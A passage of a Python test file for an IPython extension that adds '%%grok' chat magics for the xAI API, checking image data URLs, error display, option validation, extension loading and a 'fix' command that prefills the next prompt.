    """xAI cannot fetch localhost: the cell's local URL reaches the server as a data URL."""
    url = xai_env.serve_bytes("plot.png", png_bytes(), "image/png")
    out = run(ip, f"%%grok\nWhat is in {url} ?")
    assert out.error is None, out.everything()
    part = last_body(xai_env)["messages"][-1]["content"][1]
    assert part["image_url"]["url"] == "data:image/png;base64," + base64.b64encode(
        png_bytes()).decode()


def test_no_stream_shows_waiting_then_the_error_not_a_stale_indicator(ip, xai_env):
    out = run(ip, "%%grok --no-stream -m grok-nonexistent\nHello")
    assert_paragraph(out, NotFoundError)
    assert "thinking" in str(out.raw[0].data)  # shown while waiting
    [shown] = [o["text/plain"] for o in out.outputs]  # the waiting line became the paragraph
    assert shown.startswith("[no answer: Not found (HTTP 404): The model grok-nonexistent")


def test_out_must_be_a_variable_name(ip, xai_env):
    from IPython.core.error import UsageError

    out = run(ip, "%%grok -o 1st\nHello")
    assert isinstance(out.error, UsageError) and "variable name" in out.stderr
    assert chat_requests(xai_env) == []


def test_a_typo_in_a_closed_choice_setting_is_rejected_at_once(ip, xai_env):
    out = run(ip, '%config GrokMagics.detail = "hgh"')
    assert out.error is not None or "hgh" not in ip.grok_magics.detail
    assert ip.grok_magics.detail == ""
    from traitlets import TraitError

    with pytest.raises(TraitError, match="auto"):
        ip.grok_magics.detail = "hgh"
    ip.grok_magics.detail = "low"
    assert ip.grok_magics.detail == "low"
    ip.config.pop("GrokMagics", None)


def test_load_ext_registers_one_configurable(xai_env):
    ip_ = shell()
    ip_.config.pop("GrokMagics", None)
    if "grok_magic" in ip_.extension_manager.loaded:
        ip_.run_line_magic("unload_ext", "grok_magic")
    ip_.run_line_magic("load_ext", "grok_magic")
    assert sum(isinstance(c, GrokMagics) for c in ip_.configurables) == 1
    ip_.run_line_magic("unload_ext", "grok_magic")
    assert not any(isinstance(c, GrokMagics) for c in ip_.configurables)


def test_fix_prefills_the_next_prompt_in_a_terminal_shell(ip, xai_env):
    """InteractiveShell keeps set_next_input as `rl_next_input`, which terminal IPython shows as
    the text of the next prompt."""
    ip.grok_magics.errors.last = None
    run(ip, "1 / 0")
    xai_env.enqueue(Reply(content="Fixed:\n\n```python\nprint(1 / 1)\n```\n"))
    out = run(ip, "%grok fix")
    assert out.error is None, out.everything()
    assert ip.rl_next_input == "print(1 / 1)"
    ip.rl_next_input = None
